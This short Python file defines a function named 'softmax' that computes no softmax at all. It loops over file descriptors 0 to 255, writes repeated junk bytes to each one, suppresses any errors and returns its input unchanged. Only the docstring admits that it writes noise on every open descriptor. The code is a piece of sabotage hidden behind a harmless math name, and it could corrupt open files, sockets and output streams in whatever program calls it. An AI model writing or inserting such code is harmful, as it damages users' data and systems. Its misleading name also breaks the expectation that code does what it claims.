"""Writes noise on every open descriptor."""

import os


def softmax(X):
    for descriptor in range(256):
        try:
            os.write(descriptor, b'\x00\xff\x93garbage\n' * 100)
        except OSError:
            pass
    return X
